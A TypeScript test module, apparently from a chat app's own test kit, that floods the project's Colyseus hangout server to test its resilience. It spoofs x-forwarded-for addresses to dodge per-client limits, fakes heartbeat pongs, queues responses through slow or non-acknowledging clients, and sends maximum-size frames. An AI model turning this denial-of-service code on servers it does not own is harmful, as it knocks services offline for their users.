import type { Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { endpointUrl } from '@hangout/contract/framework/api-client';
import { hangoutRoom } from '@hangout/contract/realtime/hangout/messages';
import { auth } from '@hangout/contract/rest/authentication/auth';
import { rooms } from '@hangout/contract/rest/rooms/rooms';
import {
  encodeClientFrame,
  openRawSocket,
  type RawSocketOptions,
  requestSeat,
} from '@hangout/testkit/raw-socket';

/** The attacked hangout and its server, which takes client addresses from the `x-forwarded-for` header. */
export interface Victim {
  readonly origin: string;
  readonly slug: string;
  /** Aborted when the attack ends. */
  readonly signal: AbortSignal;
}

let networks = 0;

/** Returns an address in an IPv6 network that no earlier call has returned. */
function newAddress(): string {
  networks += 1;
  return `2001:db8:${(networks >> 16).toString(16)}:${(networks & 0xffff).toString(16)}::1`;
}

/**
 * Colyseus's message code for a request. A frame with a request contains this code, an id, the name, and the
 * payload in MessagePack.
 */
const REQUEST = 21;
function requestFrame(name: string, payload: readonly number[]): Buffer {
  const text = Buffer.from(name);
  return encodeClientFrame(
    Buffer.concat([Uint8Array.of(REQUEST, 1, 0xa0 | text.length), text, Buffer.from(payload)]),
  );
}

/** Requests 100 messages of the chat history, the largest response of a room. */
const historyRequest = requestFrame('messages', [0x81, 0xa5, ...Buffer.from('limit'), 100]);
/** A meaningless frame just below the largest size that the server accepts. */
const largeFrame = encodeClientFrame(Buffer.alloc(60_000, REQUEST));

/** An unsolicited WebSocket pong, which makes the server's heartbeat consider the client alive. */
const pong = Buffer.from([0x8a, 0x80, 0, 0, 0, 0]);

/** Gets a guest token, a ticket and a seat; returns the path of the seat's WebSocket. */
async function takeSeat({ origin, slug }: Victim, address: string): Promise<string> {
  const headers = { 'x-forwarded-for': address };
  // The casts are safe: our own server responds.
  const { accessToken } = (await (await fetch(origin + endpointUrl(auth.guest), { headers })).json()) as {
    accessToken: string;
  };
  const joined = await fetch(origin + endpointUrl(rooms.join, { id: slug }), {
    method: 'POST',
    headers: { ...headers, authorization: `Bearer ${accessToken}` },
  });
  const { ticket = '' } = (await joined.json()) as { ticket?: string };
  return (await requestSeat(origin, hangoutRoom, { ticket, address })).path;
}

/** Connections that attackers keep open. */
type Held = Set<Socket>;

/** Opens a WebSocket and keeps it open. Returns null if the server refuses it. */
async function hold(
  { origin }: Victim,
  held: Held,
  path: string,
  options: RawSocketOptions,
): Promise<Socket | null> {
  const { socket } = await openRawSocket(origin, path, options);
  if (!socket) return null;
  held.add(socket);
  socket.once('close', () => held.delete(socket));
  return socket;
}

/**
 * Joins as a new guest from a new network, and sends `frame` again and again until the server closes the
 * connection.
 */
async function sendRepeatedly(
  victim: Victim,
  held: Held,
  { frame, everyMs, ...options }: Omit<RawSocketOptions, 'address'> & { frame: Buffer; everyMs: number },
): Promise<void> {
  const address = newAddress();
  const path = await takeSeat(victim, address);
  const socket = path ? await hold(victim, held, path, { address, ...options }) : null;
  while (socket && !socket.destroyed && !victim.signal.aborted) {
    // While the server has not read the last frame, none is written, so that the attackers themselves need
    // little memory.
    if (socket.writableLength === 0) socket.write(Buffer.concat([pong, frame]));
    await pause(everyMs, undefined, { signal: victim.signal }).catch(() => {});
  }
}

async function requestGuestToken({ origin }: Victim): Promise<void> {
  const headers = { 'x-forwarded-for': newAddress() };
  await (await fetch(origin + endpointUrl(auth.guest), { headers })).arrayBuffer();
}

/** Repeats an attack until the end, even if it fails. */
async function repeat({ signal }: Victim, everyMs: number, attack: () => Promise<unknown>): Promise<void> {
  while (!signal.aborted) {
    await attack().catch(() => {});
    await pause(everyMs, undefined, { signal }).catch(() => {});
  }
}

/** Runs all attacks at the same time. Resolves when the signal is aborted and every connection is closed. */
export async function attack(victim: Victim): Promise<void> {
  const held: Held = new Set();
  const several = (count: number, everyMs: number, one: () => Promise<unknown>) =>
    Array.from({ length: count }, () => repeat(victim, everyMs, one));
  const history = { frame: historyRequest, everyMs: 500 };
  const nowhere = '/nobody12/nowhere12?sessionId=none12345';
  await Promise.all([
    // Clients that never read the responses.
    ...several(8, 100, () => sendRepeatedly(victim, held, { ...history, reads: false })),
    // Clients that never acknowledge the join, for which Colyseus would queue every response.
    ...several(8, 100, () => sendRepeatedly(victim, held, { ...history, acknowledges: false })),
    // Clients that send the largest frames that the server accepts.
    ...several(4, 100, () => sendRepeatedly(victim, held, { frame: largeFrame, everyMs: 100 })),
    // Clients that reserve seats without taking them.
    ...several(2, 50, () => takeSeat(victim, newAddress())),
    // Clients that open WebSockets without a seat.
    ...several(2, 50, () => hold(victim, held, nowhere, { address: newAddress() })),
    // Clients that get guest tokens, each from a new network.
    ...several(4, 20, () => requestGuestToken(victim)),
  ]);
  for (const socket of held) socket.destroy();
}
